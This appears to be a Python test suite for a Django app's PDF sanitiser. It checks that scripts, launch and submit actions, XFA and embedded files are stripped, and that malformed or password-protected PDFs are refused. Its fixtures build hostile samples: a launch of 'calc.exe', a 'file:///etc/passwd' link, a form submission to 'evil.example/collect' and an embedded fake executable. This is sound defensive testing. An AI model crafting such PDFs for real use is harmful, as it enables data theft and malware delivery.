"""PDFs lose their active content before they are stored (lib/pdfs.py): scripts, automatic and
launch actions, form submission, embedded files, XFA and multimedia are removed wherever they
hide, the cleaned file is what staff download; a PDF that needs a password, or that cannot be
parsed, is refused with a clear message. A PDF without active content is kept byte for byte."""

import io

import pikepdf
import pytest
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from requests.models import Attachment, DataSubjectRequest
from verification.services import validate_documents

from .uploads import MINIMAL_PDF, build_pdf, pdf_upload, upload

pytestmark = pytest.mark.django_db

DAMAGED_PDF = "The PDF could not be read; it may be damaged or incomplete."
PASSWORD_PDF = "is protected by a password, so it cannot be checked or read."


def saved(pdf, **kwargs) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)
    return out.getvalue()


def js_action(pdf, script="app.alert('opened')"):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(script)))


def pdf_with_open_action_javascript() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = js_action(pdf)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), js_action(pdf, "this.print()")]))
    )
    return saved(pdf)


def pdf_with_embedded_file() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ-EMBEDDED-PAYLOAD", mime_type="application/octet-stream"
    )
    return saved(pdf)


def pdf_with_actions_everywhere() -> bytes:
    """Page and annotation actions, a form with XFA and a submit button, a bookmark running a
    script, a chained action, a file attachment annotation; plus one harmless web link."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))
    web_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 10, 10],
        A=Dictionary(S=Name.URI, URI=String("https://example.com/help")),
    )
    file_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 10, 10, 20],
        A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
    )
    chained = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 20, 10, 30],
        A=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=js_action(pdf, "chain()")),
    )
    submit = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("send"),
            Rect=[0, 30, 10, 40],
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
            AA=Dictionary(K=js_action(pdf, "keystroke()")),
        )
    )
    attachment_note = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=[0, 40, 10, 50],
        FS=Dictionary(Type=Name.Filespec, F=String("x.bin")),
    )
    page.Annots = Array(
        [
            pdf.make_indirect(web_link),
            pdf.make_indirect(file_link),
            pdf.make_indirect(chained),
            submit,
            pdf.make_indirect(attachment_note),
        ]
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([submit]), XFA=Array([String("template")]))
    outline = pdf.make_indirect(
        Dictionary(Title=String("Start"), A=js_action(pdf, "bookmark()"), Parent=Name.Null)
    )
    pdf.Root.Outlines = Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
    return saved(pdf)


def all_keys(pdf) -> set[str]:
    """Every dictionary key anywhere in the file."""
    found, stack, seen = set(), [pdf.trailer, *pdf.objects], set()
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Stream):
            obj = obj.stream_dict
        if not isinstance(obj, Dictionary | Array):
            continue
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        children = [obj[k] for k in obj.keys()] if isinstance(obj, Dictionary) else list(obj)  # noqa: SIM118
        if isinstance(obj, Dictionary):
            found |= set(obj.keys())
        stack.extend(children)
    return found


def file_new_request(client, *files):
    return client.post(
        reverse("requests:new"),
        {
            "kind": "access",
            "subject": "My documents",
            "description": "Attached.",
            "attachments": list(files),
        },
    )


def stored_pdf(user) -> bytes:
    att = Attachment.objects.get(request__requester=user)
    with att.file.open("rb") as fh:
        data = fh.read()
    assert att.size == len(data)
    return data


def form_errors(response):
    return " ".join(response.context["form"].errors.get("attachments", []))


# --- Cleaned ------------------------------------------------------------------------------------


def test_open_action_javascript_is_removed_before_the_pdf_is_stored(user_client, user):
    original = pdf_with_open_action_javascript()

    response = file_new_request(user_client, pdf_upload("form.pdf", original))

    assert response.status_code == 302
    data = stored_pdf(user)
    assert data != original
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert "/OpenAction" not in pdf.Root
        assert "/JavaScript" not in pdf.Root.get("/Names", Dictionary())
        assert "/JS" not in all_keys(pdf)
        assert len(pdf.pages) == 1
    assert b"app.alert" not in data and b"this.print" not in data


def test_an_embedded_file_is_removed(user_client, user):
    response = file_new_request(user_client, pdf_upload("invoice.pdf", pdf_with_embedded_file()))

    assert response.status_code == 302
    data = stored_pdf(user)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert "/EmbeddedFiles" not in pdf.Root.get("/Names", Dictionary())
        assert not {"/EF", "/AF"} & all_keys(pdf)
        assert len(pdf.attachments) == 0
    assert b"MZ-EMBEDDED-PAYLOAD" not in data


def test_actions_on_pages_annotations_fields_and_bookmarks_are_removed(user_client, user):
    response = file_new_request(user_client, pdf_upload("all.pdf", pdf_with_actions_everywhere()))

    assert response.status_code == 302
    data = stored_pdf(user)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        keys = all_keys(pdf)
        assert not {"/AA", "/JS", "/XFA", "/Next", "/OpenAction"} & keys
        annots = list(pdf.pages[0].Annots)
        subtypes = [str(a.Subtype) for a in annots]
        assert "/FileAttachment" not in subtypes
        actions = [a.A for a in annots if "/A" in a]
        # The web link and the jump inside the document (without its chained script) keep
        # their actions; the file: link and the submit button lose theirs.
        assert [str(a.S) for a in actions] == ["/URI", "/GoTo"]
        assert str(actions[0].URI) == "https://example.com/help"
        assert "/A" not in pdf.Root.Outlines.First
    for marker in (b"calc.exe", b"evil.example", b"chain()", b"bookmark()", b"keystroke()"):
        assert marker not in data


def test_a_pdf_without_active_content_is_kept_byte_for_byte(user_client, user):
    response = file_new_request(user_client, pdf_upload("letter.pdf", MINIMAL_PDF))

    assert response.status_code == 302
    assert stored_pdf(user) == MINIMAL_PDF


def test_a_pdf_that_needed_repair_is_stored_as_repaired():
    """What was checked is what is stored: a file whose structure qpdf had to rebuild is
    written anew, so no reader can find another structure in it."""
    from lib.uploads import validate_upload

    no_xref = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )

    cleaned = validate_upload(pdf_upload("old.pdf", no_xref)).data

    assert cleaned != no_xref
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert pdf.get_warnings() == []
        assert len(pdf.pages) == 1


def test_a_pdf_restricted_only_by_an_owner_password_is_accepted_without_it(user_client, user):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    restricted = saved(
        pdf,
        encryption=pikepdf.Encryption(
            owner="owner-secret", user="", allow=pikepdf.Permissions(print_highres=False)
        ),
    )

    response = file_new_request(user_client, pdf_upload("statement.pdf", restricted))

    assert response.status_code == 302
    with pikepdf.open(io.BytesIO(stored_pdf(user))) as stored:
        assert not stored.is_encrypted


def test_a_verification_document_pdf_is_cleaned_too():
    docs = validate_documents({"licence": pdf_upload("licence.pdf", pdf_with_embedded_file())})

    (doc,) = docs
    assert b"MZ-EMBEDDED-PAYLOAD" not in doc.file.data
    with pikepdf.open(io.BytesIO(doc.file.data)) as pdf:
        assert len(pdf.attachments) == 0


# --- Refused ------------------------------------------------------------------------------------


def test_a_password_protected_pdf_is_refused_with_a_clear_message(user_client, user):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    locked = saved(pdf, encryption=pikepdf.Encryption(owner="o", user="open-sesame"))

    response = file_new_request(user_client, pdf_upload("locked.pdf", locked))

    assert response.status_code == 200
    assert f"“locked.pdf” {PASSWORD_PDF}" in form_errors(response)
    assert not DataSubjectRequest.objects.filter(requester=user).exists()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.4\nthis is not a PDF at all\n%%EOF\n", id="garbage"),
        pytest.param(
            build_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"),
            id="no-pages",
        ),
        pytest.param(
            build_pdf(
                b"<</Type/Catalog/Pages 2 0 R/Deep " + b"[" * 100_000 + b"]" * 100_000 + b">>",
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            ),
            id="nested-100000-deep",
        ),
    ],
)
def test_a_malformed_pdf_is_refused_with_a_clear_message_never_a_server_error(
    user_client, user, data
):
    response = file_new_request(user_client, pdf_upload("broken.pdf", data))

    assert response.status_code == 200
    assert DAMAGED_PDF in form_errors(response)
    assert not DataSubjectRequest.objects.filter(requester=user).exists()


def test_a_password_protected_verification_document_is_refused():
    from django.core.exceptions import ValidationError

    pdf = pikepdf.new()
    pdf.add_blank_page()
    locked = saved(pdf, encryption=pikepdf.Encryption(owner="o", user="u"))

    with pytest.raises(ValidationError) as caught:
        validate_documents({"licence": upload("licence.pdf", locked, "application/pdf")})
    assert PASSWORD_PDF in " ".join(caught.value.message_dict["licence"])
